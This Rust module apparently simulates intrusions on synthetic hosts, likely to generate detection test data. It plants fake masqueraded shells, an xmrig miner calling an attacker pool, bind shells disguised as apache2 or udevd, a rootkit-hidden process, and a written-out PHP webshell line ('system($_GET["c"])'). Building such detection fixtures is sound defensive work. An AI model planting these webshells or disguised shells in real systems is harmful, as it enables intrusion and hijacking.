//! Attacks that run something: hidden behind a name, from a file that is gone, for money, for somebody far away.

use super::Trace;
use super::access::ATTACKER;
use super::persistence::break_in;
use crate::dice::Dice;
use crate::fleet::file::Content;
use crate::fleet::host::Host;
use crate::fleet::network::{SocketKind, TcpState, anywhere};
use crate::fleet::process::{Process, Program};
use std::net::SocketAddr;

/// A connection of a process to the attacker.
fn talk(host: &mut Host, dice: &mut Dice, pid: u32, uid: u32, port: u16) {
    let here = SocketAddr::new(host.address.into(), dice.port(32_768, 60_999));
    let there = SocketAddr::new(ATTACKER.into(), port);
    host.listen(dice, uid, &[pid], SocketKind::Tcp(here, there, TcpState::Established));
}

fn talks(path: &str, port: &str) -> Trace {
    let remote = ATTACKER.to_string();
    Trace::added("connections", [("process_path", path), ("remote_address", &remote), ("remote_port", port)])
}

pub(super) fn masqueraded_shell(host: &mut Host, dice: &Dice) -> Vec<Trace> {
    let mut dice = dice.clone();
    let (path, name) = ("/usr/bin/bash", "[kworker/0:1]");
    let pid = host.next_pid(&mut dice, 3000);
    let started = break_in(host, &mut dice);
    let mut shell = Process::new(pid, 1, path, &[name]).started(started);
    "kworker/0:1".clone_into(&mut shell.name);
    host.processes.push(shell);
    talk(host, &mut dice, pid, 0, 8443);
    vec![talks(path, "8443"), Trace::added("processes", [("path", path), ("cmdline", name)])]
}

pub(super) fn deleted_binary(host: &mut Host, dice: &Dice) -> Vec<Trace> {
    let mut dice = dice.clone();
    let path = "/dev/shm/.x";
    let pid = host.next_pid(&mut dice, 3000);
    let started = break_in(host, &mut dice);
    let mut process = Process::new(pid, 1, path, &[path]).started(started);
    process.program = Program::Deleted(path.to_owned());
    host.processes.push(process);
    vec![Trace::added("processes", [("path", path), ("on_disk", "0")])]
}

pub(super) fn miner(host: &mut Host, dice: &Dice) -> Vec<Trace> {
    let mut dice = dice.clone();
    let then = break_in(host, &mut dice);
    let path = "/tmp/.X11-unix/xmrig";
    host.files.program(path, then, "xmrig 6.21");
    let pid = host.next_pid(&mut dice, 3000);
    let pool = format!("{ATTACKER}:3333");
    let mut process =
        Process::new(pid, 1, path, &[path, "-o", &pool, "-k", "--donate-level", "1"]).started(then + 5);
    process.threads = 5;
    process.busy = 91_204_112;
    process.resident_kb = 2_410_000;
    host.processes.push(process);
    talk(host, &mut dice, pid, 0, 3333);
    vec![Trace::added("processes", [("path", path)]), talks(path, "3333")]
}

/// A shell behind a listener.
fn bind_shell(host: &mut Host, dice: &Dice, path: &str, title: &str, port: u16) -> Vec<Trace> {
    let mut dice = dice.clone();
    let then = break_in(host, &mut dice);
    if host.files.get(path).is_none() {
        host.files.program(path, then, format!("bind shell at {path}"));
    }
    let pid = host.next_pid(&mut dice, 3000);
    host.processes.push(Process::new(pid, 1, path, &[title]).started(then + 9));
    host.listen(&mut dice, 0, &[pid], SocketKind::TcpListener(anywhere(port)));
    let port = port.to_string();
    vec![
        Trace::added("listening_ports", [("port", port.as_str()), ("process_path", path)]),
        Trace::added("processes", [("path", path), ("cmdline", title)]),
    ]
}

pub(super) fn usual_port(host: &mut Host, dice: &Dice) -> Vec<Trace> {
    bind_shell(host, dice, "/usr/lib/.apache2", "/usr/sbin/apache2 -k start", 8080)
}

pub(super) fn unusual_port(host: &mut Host, dice: &Dice) -> Vec<Trace> {
    bind_shell(host, dice, "/usr/bin/python3.11", "udevd --daemon", 60_922)
}

pub(super) fn webshell_child(host: &mut Host, dice: &Dice) -> Vec<Trace> {
    let mut dice = dice.clone();
    let then = break_in(host, &mut dice);
    let path = "/usr/bin/dash";
    let front = host.role.front();
    let parent = host.process(front.process).map_or(1, |process| process.pid);
    let (uid, gid) = front.account;
    host.files.put(front.place, 0o755, host.clock.installed, Content::Directory);
    host.files.text(format!("{}/logo.php", front.place), then, "<?php system($_GET[\"c\"]); ?>\n");
    let pid = host.next_pid(&mut dice, 3000);
    let line = "id; uname -a; sleep infinity; true";
    let mut shell = Process::new(pid, parent, path, &["/bin/sh", "-c", line]).user(uid, gid).unit(front.unit);
    shell.started = host.clock.now - 40;
    front.place.clone_into(&mut shell.cwd);
    host.processes.push(shell);
    vec![Trace::added(
        "processes",
        [("path", path), ("uid", &uid.to_string()), ("cmdline", &format!("/bin/sh -c {line}"))],
    )]
}

pub(super) fn benign_process(host: &mut Host, dice: &Dice) -> Vec<Trace> {
    let mut dice = dice.clone();
    // A program that runs everywhere, and talks to nobody far away elsewhere.
    let Some((pid, path)) =
        host.process("rsyslogd").map(|process| (process.pid, process.program.path().to_owned()))
    else {
        return Vec::new();
    };
    talk(host, &mut dice, pid, 0, 443);
    vec![talks(&path, "443")]
}

pub(super) fn hidden_process(host: &mut Host, dice: &Dice) -> Vec<Trace> {
    let mut dice = dice.clone();
    let then = break_in(host, &mut dice);
    let pid = host.next_pid(&mut dice, 3000);
    // A rootkit takes it out of /proc; the control group still counts it.
    host.files.program("/usr/local/sbin/.kdump", then, "hidden implant");
    host.files.text("/sys/fs/cgroup/system.slice/kdump.service/cgroup.procs", then, format!("{pid}\n"));
    let pid = pid.to_string();
    vec![
        Trace::added("hidden_things", [("kind", "process"), ("id", pid.as_str())]),
        Trace::added("hidden_files", [("path", "/usr/local/sbin/.kdump")]),
        Trace::added("control_groups", [("path", "/sys/fs/cgroup/system.slice/kdump.service/")]),
    ]
}
